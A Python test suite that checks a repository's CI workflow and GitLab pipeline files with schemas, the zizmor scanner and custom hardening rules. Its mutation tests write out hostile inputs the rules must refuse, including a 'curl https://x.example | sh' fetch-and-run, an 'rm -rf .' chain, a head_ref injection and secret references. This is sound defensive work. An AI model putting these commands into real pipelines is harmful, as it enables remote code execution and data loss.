"""The pipeline files against the schemas of their hosts, against zizmor, and against the rules of this repository."""

from __future__ import annotations

import subprocess
import sys
from typing import TYPE_CHECKING

import pytest
from tests.pipelines import rules
from tests.pipelines.rules import GITLAB, ROOT, WORKFLOWS

if TYPE_CHECKING:
    import pathlib

WORKFLOW = (ROOT / ".github/workflows/pruefung.yml").read_text(encoding="utf-8")
PIPELINE = GITLAB.read_text(encoding="utf-8")
CHECKOUT = "actions/checkout@"
RUN_BY = {
    ".ci/run": "tests/test_scripts.py",  # it is what runs this suite
    "scripts/findings": "tests/pipelines/test_findings.py",
    "scripts/preview": "tests/pipelines/test_preview_from_disk.py",
    "scripts/build": "tests/pipelines/test_preview_from_disk.py",  # by scripts/preview
    "scripts/links": "tests/care/test_forge.py",
    "scripts/due": "tests/care/test_forge.py",
    "scripts/audit": "tests/supply/test_audit.py",
}
"""The tests that run the scripts which pipelines call."""


def run(*command: object) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(part) for part in command], capture_output=True, text=True, check=False)


def schema(host: str, file: pathlib.Path) -> subprocess.CompletedProcess[str]:
    options = ("--data-transform", "gitlab-ci") if host == "gitlab-ci" else ()
    return run(sys.executable, "-m", "check_jsonschema", "--builtin-schema", f"vendor.{host}", *options, file)


def unsafe(file: pathlib.Path) -> subprocess.CompletedProcess[str]:
    return run(ROOT / ".venv/bin/zizmor", "--offline", "--no-progress", "--quiet", file)


class TestSchemas:
    def test_of_github(self) -> None:
        assert WORKFLOWS
        for file in WORKFLOWS:
            done = schema("github-workflows", file)
            assert done.returncode == 0, done.stdout

    def test_of_gitlab(self) -> None:
        done = schema("gitlab-ci", GITLAB)
        assert done.returncode == 0, done.stdout

    def test_see_what_is_misspelt(self, tmp_path: pathlib.Path) -> None:
        (tmp_path / "w.yml").write_text(WORKFLOW.replace("timeout-minutes:", "timeout-minute:", 1), encoding="utf-8")
        (tmp_path / "g.yml").write_text(PIPELINE.replace("expose_as:", "exposed_as:", 1), encoding="utf-8")
        assert schema("github-workflows", tmp_path / "w.yml").returncode == 1
        assert schema("gitlab-ci", tmp_path / "g.yml").returncode == 1


class TestZizmor:
    def test_finds_nothing(self) -> None:
        done = unsafe(ROOT / ".github/workflows")
        assert done.returncode == 0, done.stdout

    def test_sees_a_trigger_with_rights(self, tmp_path: pathlib.Path) -> None:
        folder = tmp_path / ".github/workflows"
        folder.mkdir(parents=True)
        (folder / "w.yml").write_text(WORKFLOW.replace("  pull_request:", "  pull_request_target:"), encoding="utf-8")
        assert "dangerous-triggers" in unsafe(folder).stdout


class TestRules:
    @pytest.mark.parametrize("file", WORKFLOWS, ids=lambda file: file.name)
    def test_workflows_keep_them(self, file: pathlib.Path) -> None:
        assert rules.github(file.read_text(encoding="utf-8")) == []

    def test_the_pipeline_of_gitlab_keeps_them(self) -> None:
        assert rules.gitlab(PIPELINE) == []

    @pytest.mark.parametrize(
        ("old", "new", "complaint"),
        [
            ("  pull_request:", "  pull_request_target:", "the trigger pull_request_target runs with rights"),
            ("permissions: {}", "permissions: read-all", "the workflow must start with no permissions"),
            ("      contents: read", "      contents: write", "befunde: may write and runs for a change"),
            (
                "      contents: read",
                "      contents: write",
                "befunde: may write, and holds what a change has written",
            ),
            ("    permissions:\n      contents: read\n", "", "befunde: does not say what it may do"),
            ("persist-credentials: false", "persist-credentials: true", "befunde: leaves its token in the clone"),
            (f"{CHECKOUT}3", f"{CHECKOUT}v7 # ", "befunde: actions/checkout@v7 is not pinned to a commit"),
            (" # v7.0.1", "", "an action is not pinned to a commit with its version beside it"),
            (
                "run: .ci/run",
                "run: curl https://x.example | sh",
                "tests: 'curl https://x.example | sh' is not one call",
            ),
            ("run: .ci/run", "run: .ci/run; rm -rf .", "tests: '.ci/run; rm -rf .' is not one call"),
            ("run: .ci/run", "run: scripts/gibt-es-nicht", "tests: scripts/gibt-es-nicht is not there"),
            ("run: .ci/run", "run: scripts/build ${{ github.head_ref }}", "is not one call"),
            ("timeout-minutes: 60", "continue-on-error: false", "tests: has no timeout"),
            ("path: .cache/pip/http-v2", "path: .cache/pip", "befunde: keeps .cache/pip, which nothing checks"),
            ("hashFiles('requirements*.txt')", "github.run_id", "the key of the cache does not follow the lock"),
            ("python:3.13.5-bookworm", "python:3", "befunde: the image python:3 is not named by its exact version"),
            ("BASE: ${{", "BASE: ${{ secrets.X }}${{", "befunde: can reach a secret or a token"),
            ("BASE: ${{", "BASE: ${{ github.token }}${{", "befunde: can reach a secret or a token"),
        ],
    )
    def test_a_workflow_that_breaks_one_is_refused(self, old: str, new: str, complaint: str) -> None:
        assert old in WORKFLOW
        found = rules.github(WORKFLOW.replace(old, new, 1))
        assert [sentence for sentence in found if complaint in sentence], found

    @pytest.mark.parametrize(
        ("old", "new", "complaint"),
        [
            ("stages:", "include: [{remote: 'https://x.example/a.yml'}]\nstages:", "include is not allowed"),
            ("  interruptible: true", "  before_script: [make]", "before_script is not allowed"),
            ("    - .ci/run", "    - .ci/run && make", "tests: '.ci/run && make' is not one call"),
            ("    - .ci/run", "    - .ci/run\n  id_tokens: {T: {aud: x}}", "tests: id_tokens is not allowed"),
            ("  timeout: 60 minutes\n", "", "tests: has no timeout"),
            ("python:3.13.5-bookworm", "python:latest", "befunde: the image python:latest is not named"),
            ("paths: [.cache/pip/http-v2/]", "paths: [.venv/]", "keeps .venv/, which nothing checks"),
            ("files: [requirements.txt, requirements-dev.txt]", "files: [README.md]", "does not follow the lock"),
            (
                '  rules:\n    - if: $CI_PIPELINE_SOURCE == "push" && $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH\n',
                "",
                "pages: would publish a change",
            ),
        ],
    )
    def test_a_pipeline_of_gitlab_that_breaks_one_is_refused(self, old: str, new: str, complaint: str) -> None:
        assert old in PIPELINE
        at = PIPELINE.rindex(old)
        found = rules.gitlab(PIPELINE[:at] + new + PIPELINE[at + len(old) :])
        assert [sentence for sentence in found if complaint in sentence], found


class TestScripts:
    def test_both_hosts_call_the_same(self) -> None:
        on_github = {script for file in WORKFLOWS for script in rules.scripts(file.read_text(encoding="utf-8"))}
        assert on_github == rules.scripts(PIPELINE) == set(RUN_BY)

    def test_all_are_run_by_a_test(self) -> None:
        for script, file in RUN_BY.items():
            named = f'"{script.removeprefix("scripts/")}"'
            assert script in (text := (ROOT / file).read_text(encoding="utf-8")) or named in text
